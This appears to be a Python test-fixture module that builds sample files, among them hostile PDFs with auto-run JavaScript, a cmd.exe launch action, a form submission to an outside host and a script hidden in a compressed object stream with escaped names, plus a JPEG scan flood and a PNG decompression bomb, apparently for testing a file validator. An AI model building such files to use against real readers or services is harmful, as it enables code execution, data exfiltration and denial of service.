"""Small files of every kind, good and bad, made here, as people and attackers bring them."""

import io
import struct
import zlib

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject


class Samples:
    """Small files of every kind, good and bad."""

    @staticmethod
    def pdf(size: int = 0, pages: int = 1) -> bytes:
        """A valid PDF of exactly that many bytes: a comment after the header fills it up, the offsets are right."""
        empty = _pdf_with_comment(b"", pages)
        return empty if size <= len(empty) else _exact(size, pages)

    @staticmethod
    def encrypted_pdf() -> bytes:
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(Samples.pdf())))
        writer.encrypt("secret", algorithm="AES-256")
        return _written(writer)

    @staticmethod
    def pdf_with_script() -> bytes:
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(Samples.pdf())))
        script = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('x')")}
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(script)
        return _written(writer)

    @staticmethod
    def pdf_with_attachment() -> bytes:
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(Samples.pdf())))
        writer.add_attachment("run.exe", b"MZ")
        return _written(writer)

    @staticmethod
    def pdf_that_launches() -> bytes:
        action = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>"
        return _assembled([action, *_page_tree(1)], b"")

    @staticmethod
    def pdf_that_submits() -> bytes:
        action = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F (http://elsewhere.example/) >> >>"
        return _assembled([action, *_page_tree(1)], b"")

    @staticmethod
    def pdf_with_packed_script() -> bytes:
        """Objects in a compressed stream, the script's names spelled with escapes (ISO 32000-1, 7.3.5, 7.5.7)."""
        script = b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
        packed = zlib.compress(b"4 0 " + script)
        head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(packed)
        catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
        objects = [catalog, *_page_tree(1), b"null", head + b"\nstream\n" + packed + b"\nendstream"]
        return _with_table_stream(objects, packed_number=4, holder=5)

    @staticmethod
    def image(form: str = "PNG", size: tuple[int, int] = (40, 30), mode: str = "RGB") -> bytes:
        target = io.BytesIO()
        Image.new(mode, size).save(target, form)
        return target.getvalue()

    @staticmethod
    def jpeg_of_scans(more: int) -> bytes:
        """A progressive JPEG whose last scan stands there so many times more."""
        target = io.BytesIO()
        Image.new("L", (400, 300)).save(target, "JPEG", progressive=True)
        jpeg = target.getvalue()
        end = len(jpeg) - 2
        return jpeg[:end] + jpeg[jpeg.rfind(b"\xff\xda") : end] * more + jpeg[end:]

    @staticmethod
    def bomb() -> bytes:
        """A PNG of 20,000 x 20,000 pixels in half a megabyte."""
        target = io.BytesIO()
        Image.new("1", (20_000, 20_000)).save(target, "PNG")
        return target.getvalue()


def _exact(size: int, pages: int) -> bytes:
    # The padding moves the offset of the last table, and so may change how many digits it is written with.
    filler = size - len(_pdf_with_comment(b"", pages))
    while len(made := _pdf_with_comment(b"%" + b"x" * filler + b"\n", pages)) > size:
        filler -= 1
    assert len(made) == size
    return made


def _pdf_with_comment(comment: bytes, pages: int) -> bytes:
    return _assembled([b"<< /Type /Catalog /Pages 2 0 R >>", *_page_tree(pages)], comment)


def _page_tree(pages: int) -> list[bytes]:
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(pages))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return [b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, pages), *[page] * pages]


def _assembled(objects: list[bytes], comment: bytes) -> bytes:
    """Header, comment, objects from number 1 on, the table of their offsets, trailer (ISO 32000-1, 7.5)."""
    body = b"%PDF-1.7\n" + comment
    offsets = []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    count = len(objects) + 1
    end = b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<< /Size %d /Root 1 0 R >>\n" % (count, table, count)
    return body + end + b"startxref\n%d\n%%%%EOF\n" % len(body)


def _with_table_stream(objects: list[bytes], *, packed_number: int, holder: int) -> bytes:
    """Like _assembled, with the offsets in a stream, one object lying in another (ISO 32000-1, 7.5.8)."""
    body, rows = b"%PDF-1.7\n", [struct.pack(">BIH", 0, 0, 65535)]
    for number, content in enumerate(objects, start=1):
        inside = number == packed_number
        rows.append(struct.pack(">BIH", 2, holder, 0) if inside else struct.pack(">BIH", 1, len(body), 0))
        body += b"" if inside else b"%d 0 obj\n%b\nendobj\n" % (number, content)
    last = len(objects) + 1
    table = b"".join([*rows, struct.pack(">BIH", 1, len(body), 0)])
    head = b"<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>" % (last + 1, len(table))
    end = b"%d 0 obj\n%b\nstream\n%b\nendstream\nendobj\n" % (last, head, table)
    return body + end + b"startxref\n%d\n%%%%EOF\n" % len(body)


def _written(writer: PdfWriter) -> bytes:
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()
